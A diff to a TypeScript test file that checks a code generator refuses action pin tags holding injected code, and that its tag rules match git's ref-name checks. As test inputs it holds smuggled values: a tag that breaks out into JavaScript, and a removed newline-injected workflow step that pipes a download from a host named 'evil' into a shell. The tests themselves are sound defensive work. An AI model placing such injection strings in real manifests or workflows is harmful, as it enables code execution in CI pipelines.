@@ -20,26 +20,24 @@ import { validationProblems } from "../support/validation-problems.ts";
 const COMMIT = "4444444444444444444444444444444444444444";
 const CODE_IN_TAG = "v3.6.0 */ globalThis.pwned = true; /*";
 
-test("a pin tag holding code or a line break is refused by gen on a copy of the project, and nothing is written", () => {
+test("a pin tag holding code is refused by gen on a copy of the project, and nothing is written", () => {
   const root = projectCopy("hostile-manifest");
   const at = (file: string) => path.join(root, file);
   try {
     const written = ["generated/actions/docker-metadata-action.ts", ".github/workflows/docker-build.yml"].map((file) => [file, readFileSync(at(file), "utf8")] as const);
     const manifest = readFileSync(at(manifestFile), "utf8");
-    for (const tag of [CODE_IN_TAG, "v5.10.0\n      - run: curl evil | sh"]) {
-      writeFileSync(at(manifestFile), manifest.replace('"tag": "v5.10.0"', `"tag": ${JSON.stringify(tag)}`));
-      const gen = npmRun(root, "gen");
-      assert.notEqual(gen.status, 0);
-      assert.match(gen.stderr + gen.stdout, /actions\.docker\/metadata-action\.tag" contains U\+00(20|0A)/);
-      for (const [file, text] of written) assert.equal(readFileSync(at(file), "utf8"), text, `${file} was not rewritten`);
-    }
+    writeFileSync(at(manifestFile), manifest.replace('"tag": "v5.10.0"', `"tag": ${JSON.stringify(CODE_IN_TAG)}`));
+    const gen = npmRun(root, "gen");
+    assert.notEqual(gen.status, 0);
+    assert.match(gen.stderr + gen.stdout, /actions\.docker\/metadata-action\.tag" contains U\+0020/);
+    for (const [file, text] of written) assert.equal(readFileSync(at(file), "utf8"), text, `${file} was not rewritten`);
   } finally {
     rmSync(root, { recursive: true, force: true });
   }
 });
 
 test("tags follow git's ref-name rules: the rule agrees with git check-ref-format", () => {
-  const candidates = ["v1", "v1.2.3-rc.1", "release/v2", "é-1", "v1..2", "../../x", "a b", "a~1", "a^", "a:b", "a?", "a*", "a[b", "a\\b", "/a", "a/", "a//b", "a.", ".a", "a/.b", "a.lock", "a/b.lock/c", "a@{b", "@", "a@b", "a\tb", "a\u007fb"];
+  const candidates = ["v1", "v1.2.3-rc.1", "release/v2", "é-1", "v1..2", "../../x", "a b", "a~1", "a^", "a:b", "a?", "a*", "a[b", "a\\b", "/a", "a/", "a//b", "a.", ".a", "a/.b", "a.lock", "a/b.lock/c", "a@{b", "@", "a@b", "a\tb", "a\nb", "a\u007fb"];
   const git = spawnSync("git", ["--version"]);
   for (const tag of candidates) {
     const ours = tagNameProblem(tag) === undefined;
